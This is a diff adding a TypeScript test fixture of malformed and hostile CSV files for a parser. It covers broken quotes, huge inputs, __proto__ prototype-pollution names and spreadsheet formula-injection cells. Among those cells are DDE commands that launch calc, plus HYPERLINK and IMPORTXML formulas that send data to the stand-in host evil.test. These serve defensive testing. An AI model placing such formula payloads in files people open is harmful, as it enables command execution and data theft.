@@ -1,0 +1,62 @@
+import { filesOf, type HostileFile, latin } from './hostile-file.ts'
+
+const head = 'Title,Situation,Result'
+const rows = (...lines: string[]) => [head, ...lines].join('\n')
+
+/** Tables that are broken, or that a spreadsheet would run. */
+export function tableFiles(): HostileFile[] {
+  return filesOf('table', [
+    ['bare-quote.csv', rows('a "b" c,d,e'), 'read csv 1/1'],
+    ['quote-behind-space.csv', rows('a, "b",c'), 'read csv 1/1'],
+    ['quote-in-quotes.csv', rows('"a"b"c",d,e'), 'read csv 1/1'],
+    ['open-quote.csv', rows('"a,b,c', 'd,e,f'), 'refused open-quote'],
+    ['only-quote.csv', '"', 'refused open-quote'],
+    ['only-quotes.csv', '"'.repeat(10_000), 'refused no-columns'],
+    ['odd-quotes.csv', '"'.repeat(9_999), 'refused open-quote'],
+    ['old-mac.csv', `${head}\ra,b,c\rd,e,f\r`, 'read csv 2/2'],
+    ['mixed-ends.csv', `${head}\r\na,b,c\nd,e,f\r`, 'read csv 2/2'],
+    ['nul.csv', rows('a\0b,c\0,d'), 'read csv 1/1'],
+    ['marked-twice.csv', `\uFEFF\uFEFF${rows('a,b,c')}`, 'read csv 1/1'],
+    ['ragged.csv', rows('a', 'b,c,d,e,f,g', '', ',,', 'h,i'), 'read csv 3/3'],
+    ['no-header.csv', '1,2,3\n4,5,6', 'refused no-columns'],
+    ['header-only.csv', head, 'refused no-stories'],
+    ['empty-header.csv', ',,\na,b,c', 'refused no-columns'],
+    ['same-headers.csv', 'Title,Title,Title\na,b,c', 'read csv 1/1'],
+    ['header-of-objects.csv', '__proto__,constructor,toString,Title\na,b,c,d', 'read csv 1/1'],
+    ['columns-500.csv', `Title${',x'.repeat(499)}\na`, 'read csv 1/1'],
+    ['columns-501.csv', `Title${',x'.repeat(500)}\na`, 'refused too-many-columns'],
+    ['columns-60000.csv', `Title${',x'.repeat(60_000)}\na`, 'refused too-many-columns'],
+    ['wide-row.csv', `Title\n${'a,'.repeat(49_000)}`, 'read csv 1/1'],
+    ['rows-20001.csv', `Title\n${'a\n'.repeat(20_001)}`, 'refused too-many-stories'],
+    ['only-commas.csv', ','.repeat(400), 'refused no-columns'],
+    ['semicolons.csv', 'Title;Situation\n"a;b";c', 'read csv 1/1'],
+    ['tabs.tsv', 'Title\tSituation\na\tb', 'read csv 1/1'],
+    ['separator-line.csv', `sep=;\n${head}\na,b,c`, 'refused no-columns'],
+    ['newlines-in-cells.csv', rows('"a\n\n\nb","c\r\nd",e'), 'read csv 1/1'],
+    ['latin.csv', latin('Title\ncaf\xe9'), 'refused truncated'],
+    ['bad-month.csv', 'Title,Date\na,someday', 'read csv 0/1 invalid-month'],
+    ['bad-status.csv', 'Title,Status\na,Finished', 'read csv 0/1 unknown-status'],
+    ['bad-principle.csv', 'Title,LP\na,Bravery', 'read csv 0/1 unknown-principle'],
+    ['bad-metrics.csv', 'Title,metrics,id,status\na,"[{""value"":""x""}]",b,draft', 'read csv 1/1'],
+    ['same-ids.csv', 'id,Title\nx,a\nx,b', 'read csv 1/2 duplicate-id'],
+    ['poisoned-id.csv', 'id,Title\n__proto__,a', 'read csv 0/1 reserved-id'],
+    ...Object.entries({
+      equals: '=1+1',
+      plus: '+1+1',
+      minus: '-1+1',
+      at: '@SUM(A1)',
+      tab: '\t=1+1',
+      return: '"\r=1+1"',
+      nul: '\0=1+1',
+      'wide-equals': '＝1+1',
+      'wide-plus': '＋1',
+      'wide-minus': '－1',
+      'wide-at': '＠SUM(A1)',
+      command: "=cmd|' /C calc'!A0",
+      exchange: '"=DDE(""cmd"",""/C calc"",""x"")"',
+      hyperlink: '"=HYPERLINK(""https://evil.test/?""&A1,""x"")"',
+      'import-xml': '"=IMPORTXML(""https://evil.test"",""//a"")"',
+      quoted: "'=1+1",
+    }).map(([name, cell]) => [`formula-${name}.csv`, rows(`${cell},${cell},c`), 'read csv 1/1'] as const),
+  ])
+}
